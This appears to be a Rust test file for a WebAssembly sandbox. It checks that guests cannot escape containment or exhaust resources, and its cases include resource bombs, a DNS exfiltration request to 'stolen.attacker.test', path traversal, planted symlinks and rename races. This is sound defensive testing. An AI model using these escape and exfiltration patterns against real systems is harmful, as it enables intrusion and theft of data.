//! Guests with tricks of their own: with files, names, threads and results.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use nanohost_sandbox::{FaultCode, Network};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::bench::{Asks, call, denied, engine, fault, guest, plan, success, tool, tool_error, tool_in, wat};
use crate::http_server::Names;

/// A component of one core module and its lifted functions.
fn of_module(module: &str, functions: &str) -> nanohost_sandbox::Loaded {
    wat(&format!(
        "(component (core module $m {module}) (core instance $i (instantiate $m)) \
         (alias core export $i \"memory\" (core memory $memory)) {functions})"
    ))
}

/// A way round the limit on memory: a table that grows.
pub(crate) async fn table_bomb() {
    let loaded = of_module(
        r#"(memory (export "memory") 1) (table $t 1 funcref)
           (func (export "grow") (param i32) (result i32)
             (if (i32.eq (table.grow $t (ref.null func) (local.get 0)) (i32.const -1)) (then unreachable))
             (table.size $t))"#,
        r#"(func (export "grow") (param "by" u32) (result u32) (canon lift (core func $i "grow")))"#,
    );
    // Growing costs fuel too: with little of it, that ends first.
    let limits = "fuel = 1_000_000_000_000".into();
    let grow = tool(&loaded, "grow", &Asks { limits, ..Asks::default() });
    assert_eq!(success(&call(&grow, json!({ "by": 999 })).await), &json!(1_000));
    for by in [1_000_000, u32::MAX] {
        assert_eq!(fault(&call(&grow, json!({ "by": by })).await), FaultCode::MemoryLimit);
    }
}

/// Results that are not of their type, or lie outside of the guest's memory.
pub(crate) async fn malformed_result() {
    let loaded = of_module(
        r#"(memory (export "memory") 1)
           (func (export "text") (param $at i32) (param $length i32) (result i32)
             (i32.store8 (i32.const 64) (i32.const 0xff))
             (i32.store8 (i32.const 65) (i32.const 0x41))
             (i32.store (i32.const 0) (local.get $at))
             (i32.store (i32.const 4) (local.get $length))
             i32.const 0)
           (func (export "same") (param i32) (result i32) local.get 0)"#,
        r#"(type $colour' (enum "red" "green"))
           (export $colour "colour" (type $colour'))
           (func (export "text") (param "at" u32) (param "length" u32) (result string)
             (canon lift (core func $i "text") (memory $memory)))
           (func (export "char") (param "code" u32) (result char) (canon lift (core func $i "same")))
           (func (export "enum") (param "case" u32) (result $colour) (canon lift (core func $i "same")))"#,
    );
    let with = |function| tool(&loaded, function, &Asks::default());
    let ask = async |function, input| call(&with(function), input).await;
    assert_eq!(success(&ask("text", json!({ "at": 65, "length": 1 })).await), "A");
    assert_eq!(success(&ask("char", json!({ "code": 0x41 })).await), "A");
    assert_eq!(success(&ask("enum", json!({ "case": 1 })).await), "green");
    for (function, input) in [
        ("text", json!({ "at": 64, "length": 2 })),
        ("text", json!({ "at": 65_535, "length": 2 })),
        ("text", json!({ "at": u32::MAX, "length": u32::MAX })),
        ("char", json!({ "code": 0xd800 })),
        ("char", json!({ "code": 0x11_0000 })),
        ("enum", json!({ "case": 2 })),
        ("enum", json!({ "case": u32::MAX })),
    ] {
        let code = fault(&ask(function, input.clone()).await);
        assert!(
            matches!(code, FaultCode::Trap | FaultCode::MalformedResult | FaultCode::OutputLimit),
            "{input}: {code}"
        );
    }
}

/// A guest that never gets as far as being called.
pub(crate) async fn endless_start() {
    for (body, ends) in [("(loop $again (br $again))", false), ("nop", true)] {
        let loaded = of_module(
            &format!(
                r#"(memory (export "memory") 1) (func $start {body}) (start $start) (func (export "f"))"#
            ),
            r#"(func (export "f") (canon lift (core func $i "f")))"#,
        );
        let limits = "deadline = \"100ms\"\nfuel = 1_000_000_000_000".into();
        let started = tool(&loaded, "f", &Asks { limits, ..Asks::default() });
        let patient = tool(&loaded, "f", &Asks::default());
        if ends {
            assert_eq!(success(&call(&patient, json!({})).await), &Value::Null);
        } else {
            assert_eq!(fault(&call(&started, json!({})).await), FaultCode::Deadline);
        }
    }
}

/// Threads there are none: no shared memory, no atomics, no interface and no instruction to make one.
pub(crate) async fn spawning_threads() {
    let code = |text: &str| {
        let bytes = wat::parse_str(text).expect("the text is WebAssembly");
        engine().load(&bytes.into()).map_or_else(|error| error.code(), |_| "ok")
    };
    for module in [
        "(memory 1 1 shared)",
        r#"(import "env" "memory" (memory 1 1 shared))"#,
        "(memory 1) (func (drop (i32.atomic.load (i32.const 0))))",
        "(memory 1) (func (drop (memory.atomic.notify (i32.const 0) (i32.const 1))))",
    ] {
        assert_eq!(code(&format!("(component (core module {module}))")), "compile_failed", "{module}");
    }
    assert_eq!(code("(component (core module (memory 1) (func (drop (i32.load (i32.const 0))))))"), "ok");
    // The import by which threads of `wasi-threads` are made, as a component has it.
    for import in ["wasi:thread/spawn@0.2.0", "wasi:threads/thread-spawn@0.1.0"] {
        let loaded = wat(&format!(
            r#"(component
                (import "{import}" (instance (export "thread-spawn" (func (param "start" u32) (result s32)))))
                (core module $m (func (export "f")))
                (core instance $i (instantiate $m))
                (func (export "f") (canon lift (core func $i "f"))))"#
        ));
        assert!(plan(loaded.facts(), "f", &Asks::default()).is_err(), "{import}");
    }
}

/// What a name says to whoever answers for it: names that no rule holds are asked of nobody.
pub(crate) async fn dns_exfiltration() {
    let names = Names::new([("api.test", &[&["192.0.2.1"]]), ("stolen.attacker.test", &[&["192.0.2.2"]])]);
    let engine = engine().with_network(Network::system().with_resolver(names.clone()));
    let rule = "http = [{ scheme = \"https\", host = \"api.test\", port = 443, methods = [\"GET\"], path = \"/**\" }]";
    let asks = Asks { capabilities: rule.into(), limits: "deadline = \"100ms\"".into(), ..Asks::default() };
    let send = tool_in(&engine, &guest("http"), "send", &asks);
    let get = |host: &str| {
        json!({ "request": {
            "method": "GET", "scheme": "https", "authority": host, "path": "/", "headers": [], "body": "",
        }})
    };
    let report = call(&send, get("stolen.attacker.test")).await;
    assert_eq!(tool_error(&report), "ErrorCode::HttpRequestDenied");
    assert_eq!(names.asked(), [""; 0]);
    // The control: what is granted is asked for, though nobody is there.
    let patient = tool_in(&engine, &guest("http"), "impatient", &Asks { limits: String::new(), ..asks });
    let mut request = get("api.test");
    request["milliseconds"] = json!(1);
    call(&patient, request).await;
    assert_eq!(names.asked(), ["api.test"]);
    // The name lookup of `wasi:sockets` is `listening_udp_and_names`.
}

/// Everything that can be held is counted together: folders, requests, moments to wait for.
pub(crate) async fn fd_flood() {
    let disk = TempDir::new().expect("a temporary folder");
    let files = tool(&guest("files"), "hoard", &folder("/data", disk.path(), "read"));
    let rule = "http = [{ scheme = \"https\", host = \"api.test\", port = 443, methods = [\"GET\"], path = \"/**\" }]";
    let asks = Asks { capabilities: rule.into(), ..Asks::default() };
    let [requests, moments] = ["hoard", "linger"].map(|function| tool(&guest("http"), function, &asks));
    for (tool, with_path) in [(files, true), (requests, false), (moments, false)] {
        let input = |count: u32| {
            if with_path { json!({ "path": "/data", "count": count }) } else { json!({ "count": count }) }
        };
        assert_eq!(success(&call(&tool, input(100)).await), &json!(100));
        assert_eq!(fault(&call(&tool, input(100_000)).await), FaultCode::HandleLimit);
    }
}

/// A granted folder.
fn folder(root: &str, host: &Path, access: &str) -> Asks {
    Asks {
        capabilities: format!("filesystem = [{{ guest = \"{root}\", access = \"{access}\" }}]"),
        host: format!("[folders.guest]\n{root:?} = {:?}\n", host.to_str().expect("a UTF-8 path")),
        ..Asks::default()
    }
}

/// `granted/inner/note.txt`, and `outside/note.txt` with a secret.
struct Disk(TempDir);

impl Disk {
    fn new() -> Self {
        let disk = Self(TempDir::new().expect("a temporary folder"));
        for (path, text) in [("granted/inner/note.txt", "note"), ("outside/note.txt", "secret")] {
            let path = disk.path(path);
            fs::create_dir_all(path.parent().expect("it is in a folder")).expect("a folder");
            fs::write(path, text).expect("a file");
        }
        disk
    }

    fn path(&self, path: &str) -> PathBuf {
        self.0.path().join(path)
    }
}

/// A second name for a file lives on after the call: what lies in one folder would be read in another.
pub(crate) async fn hard_link() {
    let disk = Disk::new();
    let both = Asks {
        capabilities:
            "filesystem = [{ guest = \"/in\", access = \"read\" }, { guest = \"/out\", access = \"write\" }]"
                .into(),
        host: format!(
            "[folders.guest]\n\"/in\" = {:?}\n\"/out\" = {:?}\n",
            disk.path("outside").to_str().expect("a UTF-8 path"),
            disk.path("granted").to_str().expect("a UTF-8 path")
        ),
        ..Asks::default()
    };
    let [link, rename, write] =
        ["hard-link", "rename", "write"].map(|function| tool(&guest("files"), function, &both));
    for (path, alias) in [
        ("/in/note.txt", "/out/alias"),
        ("/out/inner/note.txt", "/out/alias"),
        ("/out/../outside/note.txt", "/out/alias"),
        ("/out/inner/note.txt", "/in/alias"),
    ] {
        let report = call(&link, json!({ "path": path, "link": alias })).await;
        assert_eq!(tool_error(&report), "not-permitted", "{path}");
        assert_eq!(denied(&report), [format!("link {path}")]);
    }
    // Nor does a file leave the folder that may only be read.
    let moved = call(&rename, json!({ "path": "/in/note.txt", "to": "/out/note.txt" })).await;
    assert_eq!(tool_error(&moved), "PermissionDenied");
    assert!(!disk.path("granted/alias").exists() && disk.path("outside/note.txt").exists());
    // The control: a file of its own, in the folder that may be written.
    success(&call(&write, json!({ "path": "/out/alias", "text": "mine" })).await);
    success(&call(&rename, json!({ "path": "/out/alias", "to": "/out/inner/alias" })).await);
    assert_eq!(fs::read_to_string(disk.path("granted/inner/alias")).expect("a file"), "mine");
}

/// Two tools share a folder: the one that writes plants a way out for the one that reads.
pub(crate) async fn planted_symlink() {
    let disk = Disk::new();
    let shared = disk.path("granted");
    let plant = tool(&guest("files"), "symlink", &folder("/data", &shared, "write"));
    let read = tool(&guest("files"), "read", &folder("/data", &shared, "read"));
    for target in ["../outside", "/etc", "inner", "note.txt"] {
        let report = call(&plant, json!({ "target": target, "link": "/data/way" })).await;
        assert_eq!(tool_error(&report), "not-permitted", "{target}");
        assert_eq!(denied(&report), ["symlink /data/way"]);
    }
    // Planted by somebody beside the sandbox: it is there, and leads nowhere.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("../outside", shared.join("way")).expect("a link");
        let report = call(&read, json!({ "path": "/data/way/note.txt" })).await;
        assert_eq!(tool_error(&report), "PermissionDenied");
        std::os::unix::fs::symlink("inner", shared.join("short")).expect("a link");
        assert_eq!(success(&call(&read, json!({ "path": "/data/short/note.txt" })).await), "note");
    }
    assert_eq!(success(&call(&read, json!({ "path": "/data/inner/note.txt" })).await), "note");
}

/// Folders that change their names, and what they are, while paths through them are followed.
pub(crate) async fn rename_race() {
    const TIMES: u32 = 300;
    let disk = Disk::new();
    let shared = disk.path("granted");
    let (reader, writer) = (folder("/data", &shared, "read"), folder("/data", &shared, "write"));
    let [read, swap] = [("read-often", &reader), ("swap", &writer)]
        .map(|(function, asks)| tool(&guest("files"), function, asks));
    fs::create_dir_all(shared.join("deep/er/note.txt")).expect("a folder");

    // Another tool moves a folder up while `..` leads through it.
    let climb = json!({ "path": "/data/deep/er/../../../outside/note.txt", "times": TIMES });
    let moving = json!({ "path": "/data/deep/er", "to": "/data/er", "times": TIMES });
    let (climbed, _) = tokio::join!(call(&read, climb), call(&swap, moving));
    let answers = success(&climbed).as_array().expect("answers").clone();
    assert!(!answers.is_empty() && answers.iter().all(|answer| answer.get("ok").is_none()), "{answers:?}");

    // Somebody beside the sandbox puts a link out in the place of a folder, again and again.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("../outside", disk.path("granted/link")).expect("a link");
        let over = Arc::new(AtomicBool::new(false));
        let (until, root) = (Arc::clone(&over), shared.clone());
        let flipping = std::thread::spawn(move || {
            let at = |name: &str| root.join(name);
            while !until.load(Ordering::Relaxed) {
                for (from, to) in [("inner", "kept"), ("link", "inner"), ("inner", "link"), ("kept", "inner")]
                {
                    fs::rename(at(from), at(to)).expect("they are ours");
                }
            }
        });
        let followed = call(&read, json!({ "path": "/data/inner/note.txt", "times": TIMES })).await;
        over.store(true, Ordering::Relaxed);
        flipping.join().expect("it does not panic");
        let answers = success(&followed).to_string();
        assert!(!answers.contains("secret"), "{answers}");
    }
    // The control: with nothing moving, the same path is read.
    let still = call(&read, json!({ "path": "/data/inner/note.txt", "times": 3 })).await;
    assert_eq!(success(&still), &json!([{ "ok": "note" }]));
}

/// A component is what was read when it was judged, whatever lies in its place by the time of the call.
pub(crate) async fn component_exchanged_after_loading() {
    let disk = TempDir::new().expect("a temporary folder");
    let path = disk.path().join("component.wasm");
    let text = |answer: u32| {
        wat::parse_str(format!(
            r#"(component (core module $m (func (export "f") (result i32) i32.const {answer}))
                (core instance $i (instantiate $m))
                (func (export "f") (result u32) (canon lift (core func $i "f"))))"#
        ))
        .expect("a component")
    };
    fs::write(&path, text(1)).expect("a file");
    let load = || engine().load(&fs::read(&path).expect("a file").into()).expect("it loads");
    let judged = load();
    let own = tool(&judged, "f", &Asks::default());
    fs::write(&path, text(2)).expect("a file");
    assert_eq!(success(&call(&own, json!({})).await), &json!(1));
    // The control: who reads it anew gets the other, and sees that it is another.
    let exchanged = load();
    assert_ne!(exchanged.facts().component, judged.facts().component);
    assert_eq!(success(&call(&tool(&exchanged, "f", &Asks::default()), json!({})).await), &json!(2));
}
